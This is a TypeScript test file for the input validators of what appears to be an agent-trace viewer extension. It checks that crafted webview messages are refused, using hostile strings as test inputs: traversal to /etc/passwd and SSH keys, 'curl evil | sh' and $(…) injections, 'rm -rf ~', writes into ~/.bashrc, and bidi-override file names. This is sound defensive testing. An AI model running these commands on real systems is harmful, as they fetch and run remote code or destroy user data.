import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { checkRequestParams, checkWebviewNotification, shellWords } from '../../../src/protocol/validate';
import { isTraceQuery, queryAnswer, TRACE_QUERY_NAMES } from '../../../src/protocol/traceQueryChecks';

// Crafted messages, as a page showing hostile text could send them: each refused with a
// reason, and nothing but well-formed, in-range messages getting through.

const refused = (m: unknown): string => {
  const r = checkWebviewNotification(m);
  assert.equal(r.ok, false, JSON.stringify(m));
  return r.ok ? '' : r.error;
};

describe('checkWebviewNotification', () => {
  it('lets the messages the page really sends through, unchanged', () => {
    const good = [
      { type: 'ready' },
      { type: 'source/reveal', ref: { sessionId: 's', callIndex: 3 }, toolId: null },
      { type: 'source/reveal', ref: { sessionId: 's', callIndex: 0 }, toolId: 'toolu_1' },
      { type: 'source/revealLine', file: 0, line: 12 },
      { type: 'format/choose', format: 'claude-code' },
      { type: 'format/choose', format: null },
      { type: 'clipboard/write', text: "agent-trace simulate '/home/me/a b.jsonl' --replicas 16 --json" },
      { type: 'whatif/export', fileName: 'x.whatif.json', json: '{"a":1}' },
      { type: 'log/error', message: 'boom' },
      { type: 'load/cancel' },
      { type: 'load/retry', ignoreSizeLimit: true },
      { type: 'load/retry', ignoreSizeLimit: false },
    ];
    for (const m of good) assert.deepEqual(checkWebviewNotification(m), { ok: true, value: m });
  });

  it('refuses a path where the host wants a file index: traversal with / and \\, absolute paths, a neighbour of the workspace', () => {
    for (const file of [
      '../../../../etc/passwd',
      '..\\..\\..\\Windows\\win.ini',
      '/etc/shadow',
      'C:\\Windows\\System32\\drivers\\etc\\hosts',
      '../secret.txt',
      'claude/../../x',
      '0',
    ]) {
      assert.match(refused({ type: 'source/revealLine', file, line: 0 }), /file .* is not a whole number/);
    }
  });

  it('refuses wrong types, huge and odd numbers, and missing fields', () => {
    assert.match(refused({ type: 'source/revealLine', file: 0, line: '3' }), /line is not a whole number/);
    assert.match(refused({ type: 'source/revealLine', file: 1e308, line: 0 }), /file/);
    assert.match(refused({ type: 'source/revealLine', file: 2 ** 53 + 1, line: 0 }), /file/);
    assert.match(refused({ type: 'source/revealLine', file: -1, line: 0 }), /file/);
    assert.match(refused({ type: 'source/revealLine', file: 0.5, line: 0 }), /file/);
    assert.match(refused({ type: 'source/revealLine', file: 0, line: NaN }), /line/);
    assert.match(refused({ type: 'source/revealLine', file: 0, line: Infinity }), /line/);
    assert.match(
      refused({ type: 'source/reveal', ref: { sessionId: 's', callIndex: 1e308 }, toolId: null }),
      /ref\.callIndex/,
    );
    assert.match(
      refused({ type: 'source/reveal', ref: { sessionId: 7, callIndex: 1 }, toolId: null }),
      /ref\.sessionId is not a string/,
    );
    assert.match(refused({ type: 'source/reveal', ref: null, toolId: null }), /ref is not an object/);
    assert.match(
      refused({ type: 'source/reveal', ref: { sessionId: 'x'.repeat(5000), callIndex: 1 }, toolId: null }),
      /longer than 4096/,
    );
    assert.match(refused({ type: 'format/choose', format: '../../etc' }), /not a known format/);
    assert.match(refused({ type: 'clipboard/write', text: 42 }), /text is not a string/);
    assert.match(refused({ type: 'whatif/export', fileName: 'x.json', json: 'not json' }), /not valid JSON/);
    assert.match(refused({ type: 'whatif/export', fileName: 'x.json', json: '[1]' }), /not an object/);
    assert.match(refused({ type: 'log/error', message: 'x'.repeat(100_000) }), /longer than/);
    assert.match(refused({ type: 'load/retry', ignoreSizeLimit: 'yes' }), /ignoreSizeLimit is not true or false/);
    assert.match(refused({ type: 'load/retry' }), /ignoreSizeLimit/);
  });

  it("puts only the panel's own simulate command on the clipboard, on one line", () => {
    assert.match(refused({ type: 'clipboard/write', text: 'rm -rf ~' }), /not an agent-trace simulate command/);
    assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\ncurl evil | sh' }), /on one line/);
    assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\u001b]0;t\u0007' }), /on one line/);
  });

  it('puts on the clipboard only plain and single-quoted words: nothing that runs another command when pasted into a shell', () => {
    // Each of these starts like the panel's command and would run something else in bash.
    for (const text of [
      'agent-trace simulate x; curl evil | sh',
      'agent-trace simulate x && rm -rf ~',
      'agent-trace simulate $(curl evil)',
      'agent-trace simulate `id`',
      'agent-trace simulate x > ~/.bashrc',
      'agent-trace simulate x | sh',
      "agent-trace simulate 'x' ; id",
      "agent-trace simulate 'unterminated",
      'agent-trace simulate "$HOME"',
      'agent-trace simulate x\\ y',
      'agent-trace simulate ~/x.jsonl',
      'agent-trace simulate x‮',
    ]) {
      assert.match(
        refused({ type: 'clipboard/write', text }),
        /not an agent-trace simulate command of plain or single-quoted words/,
        text,
      );
    }
    // The forms the panel writes (shellWord) split back to the words it quoted.
    assert.deepEqual(shellWords("agent-trace simulate '/home/me/it'\\''s a.jsonl' --gpus 4 --router kv-aware"), [
      'agent-trace',
      'simulate',
      "/home/me/it's a.jsonl",
      '--gpus',
      '4',
      '--router',
      'kv-aware',
    ]);
    assert.deepEqual(shellWords('agent-trace simulate C:/x.jsonl --sweep gpus=1,2,4'), [
      'agent-trace',
      'simulate',
      'C:/x.jsonl',
      '--sweep',
      'gpus=1,2,4',
    ]);
  });

  it('refuses an export name with a folder, a leading dot or control characters (the host names the file after its trace anyway)', () => {
    for (const fileName of [
      '../../.bashrc.json',
      '/etc/cron.d/x.json',
      '..\\..\\x.json',
      '.hidden.json',
      '..json',
      'x.whatif.sh',
      'a\u202eno.json',
      'x\u0000.json',
      'dir/x.json',
      '',
    ]) {
      assert.match(
        refused({ type: 'whatif/export', fileName, json: '{}' }),
        /fileName is not a plain file name ending in \.json/,
        JSON.stringify(fileName),
      );
    }
    for (const fileName of ['my session 2.whatif.json', 'sessão.whatif.json'])
      assert.equal(checkWebviewNotification({ type: 'whatif/export', fileName, json: '{}' }).ok, true, fileName);
  });

  it('refuses unknown types and things that are not messages', () => {
    assert.match(
      refused({ type: 'workbench/runCommand', command: 'workbench.action.terminal.sendSequence' }),
      /unknown message type "workbench\/runCommand"/,
    );
    assert.match(refused({ type: '__proto__' }), /unknown message type/);
    assert.match(refused({ type: 7 }), /type is not a string/);
    assert.match(refused(null), /not an object/);
    assert.match(refused([{ type: 'ready' }]), /not an object/);
    assert.match(refused('ready'), /not an object/);
  });
});

describe('checkRequestParams', () => {
  it('checks callDetail and whatIfWorkload params, refuses the rest', () => {
    assert.deepEqual(checkRequestParams('callDetail', { sessionId: 's', callIndex: 2 }), {
      ok: true,
      value: { sessionId: 's', callIndex: 2 },
    });
    assert.deepEqual(checkRequestParams('whatIfWorkload', { sessionId: 's' }), { ok: true, value: { sessionId: 's' } });
    for (const bad of [
      { sessionId: 's', callIndex: -1 },
      { sessionId: 's', callIndex: '2' },
      { sessionId: 's' },
      null,
      { sessionId: 's', callIndex: 1e308 },
    ]) {
      assert.equal(checkRequestParams('callDetail', bad).ok, false, JSON.stringify(bad));
    }
    assert.equal(checkRequestParams('whatIfWorkload', { sessionId: 12 }).ok, false);
    assert.equal(checkRequestParams('files/read' as 'callDetail', { path: '/etc/passwd' }).ok, false);
  });

  it('whatif/calibration asks only for the dialog: any path or other param the page sends is refused', () => {
    assert.deepEqual(checkRequestParams('whatif/calibration', {}), { ok: true, value: {} });
    for (const bad of [
      { path: '/etc/passwd' },
      { uri: 'file:///home/me/.ssh/id_rsa' },
      { name: 'cal.json' },
      null,
      'cal.json',
      [],
    ])
      assert.equal(checkRequestParams('whatif/calibration', bad).ok, false, JSON.stringify(bad));
  });
});

describe('checkRequestParams: what the page asks to draw (issue 15)', () => {
  const ok = (method: Parameters<typeof checkRequestParams>[0], params: unknown): void =>
    assert.deepEqual(
      checkRequestParams(method, params),
      { ok: true, value: params },
      `${method} ${JSON.stringify(params)}`,
    );
  const no = (method: Parameters<typeof checkRequestParams>[0], params: unknown, why: RegExp): void => {
    const r = checkRequestParams(method, params);
    assert.equal(r.ok, false, `${method} ${JSON.stringify(params)}`);
    if (!r.ok) assert.match(r.error, why);
  };

  it('lets the requests the page really sends through, unchanged', () => {
    ok('sessionIntro', { sessionId: 'ae4a77f8' });
    ok('sessionBody', { sessionId: 'ae4a77f8' });
    ok('sessionList', { query: 'sub-agent', offset: 0, limit: 1000 });
    ok('callRows', { sessionId: 's', from: 8_000, count: 2000 });
    ok('toolRows', { sessionId: 's', from: 0, count: 40 });
    ok('search', { query: 'String to replace not found', sessionId: 's' });
    ok('search', { query: 'npm test', sessionId: null });
    ok('callsUsingTool', { sessionId: 's', tool: 'Bash' });
    ok('customTtl', { sessionId: 's', minutes: 1.5, writeMultiple: null });
    ok('customTtl', { sessionId: 's', minutes: 10_080, writeMultiple: 0 });
    ok('sessionContext', { sessionId: 'ae4a77f8' });
  });

  it('refuses paths, wrong types, values out of range and missing fields', () => {
    // Ids the host handed out, never paths: a path is just an unknown id (the service finds no session), but a non-string is refused here.
    no('sessionBody', { sessionId: { path: '/etc/passwd' } }, /sessionId is not a string/);
    no('sessionIntro', {}, /sessionId is not a string/);
    no('sessionBody', { sessionId: 'x'.repeat(5000) }, /longer than 4096/);
    no('sessionList', { query: 'x', offset: -1, limit: 10 }, /offset/);
    no('sessionList', { query: 'x', offset: 0, limit: 1001 }, /limit is not a whole number from 0 to 1000/);
    no('sessionList', { query: 'x'.repeat(1001), offset: 0, limit: 10 }, /query is longer than 1000/);
    no('callRows', { sessionId: 's', from: 0, count: 2001 }, /count is not a whole number from 0 to 2000/);
    no('callRows', { sessionId: 's', from: 1e308, count: 10 }, /from/);
    no('callRows', { sessionId: 's', from: 0.5, count: 10 }, /from/);
    no('toolRows', { sessionId: 's', from: '0', count: 10 }, /from/);
    no('toolRows', { sessionId: 's', from: 0, count: NaN }, /count/);
    no('search', { query: 42, sessionId: null }, /query is not a string/);
    no('search', { query: 'x', sessionId: 7 }, /sessionId is not a string/);
    no('search', { query: 'x'.repeat(100_000), sessionId: null }, /longer than 1000/);
    no('callsUsingTool', { sessionId: 's', tool: ['Bash'] }, /tool is not a string/);
    no('callsUsingTool', { sessionId: 's' }, /tool is not a string/);
    // A typed TTL: more than 0 minutes and at most a week; a write price from 0 to 1,000× the input price, or null.
    no('customTtl', { sessionId: 's', minutes: 0, writeMultiple: null }, /minutes is not a number above 0/);
    no('customTtl', { sessionId: 's', minutes: 10_081, writeMultiple: null }, /minutes/);
    no('customTtl', { sessionId: 's', minutes: Infinity, writeMultiple: null }, /minutes/);
    no('customTtl', { sessionId: 's', minutes: '30', writeMultiple: null }, /minutes/);
    no('customTtl', { sessionId: 's', minutes: 30, writeMultiple: -1 }, /writeMultiple is not a number from 0 to 1000/);
    no('customTtl', { sessionId: 's', minutes: 30 }, /writeMultiple/);
    no('sessionContext', { sessionId: ['s'] }, /sessionId is not a string/);
    no('sessionContext', { sessionId: 'x'.repeat(5000) }, /longer than 4096/);
    for (const method of ['sessionIntro', 'callRows', 'search'] as const) no(method, null, /params is not an object/);
  });
});

describe('the trace queries on the wire (TraceQueries, one name each)', () => {
  it('knows every query by its own name only: inherited names and the old noun/verb names are not queries', () => {
    assert.deepEqual([...TRACE_QUERY_NAMES].sort(), [
      'callDetail',
      'callRows',
      'callsUsingTool',
      'customTtl',
      'search',
      'sessionBody',
      'sessionContext',
      'sessionIntro',
      'sessionList',
      'toolRows',
    ]);
    for (const name of [
      'constructor',
      '__proto__',
      'toString',
      'hasOwnProperty',
      'calls/rows',
      'session/intro',
      'callTranscript',
      'whatIfWorkload',
      'header',
      'report',
    ]) {
      assert.equal(isTraceQuery(name), false, name);
    }
    assert.equal(checkRequestParams('constructor' as 'callRows', { sessionId: 's', from: 0, count: 1 }).ok, false);
  });

  it('turns a null that means "not there" into an error naming what is missing, and passes a null that is an answer', () => {
    assert.throws(
      () => queryAnswer('sessionIntro', { sessionId: 'gone' }, null),
      /^Error: No session gone in this trace\.$/,
    );
    assert.throws(
      () => queryAnswer('sessionBody', { sessionId: 'gone' }, null),
      /^Error: No session gone in this trace\.$/,
    );
    assert.throws(
      () => queryAnswer('callDetail', { sessionId: 's', callIndex: 6 }, null),
      /^Error: No call 7 in session s\.$/,
    );
    assert.throws(
      () => queryAnswer('sessionContext', { sessionId: 'gone' }, null),
      /^Error: No session gone in this trace\.$/,
    );
    // Hostile ids are made safe for the page's error line (uiText), as the host always did.
    assert.throws(
      () => queryAnswer('callDetail', { sessionId: 'a\u202eb', callIndex: 0 }, null),
      (e: Error) => !e.message.includes('\u202e'),
    );
    // No prices: the cost panel's TTL row is null, an answer the page draws.
    assert.equal(queryAnswer('customTtl', { sessionId: 's', minutes: 60, writeMultiple: null }, null), null);
    const rows = [{ index: 0 }] as unknown as ReturnType<typeof queryAnswer<'callRows'>>;
    assert.equal(queryAnswer('callRows', { sessionId: 's', from: 0, count: 1 }, rows), rows);
  });
});
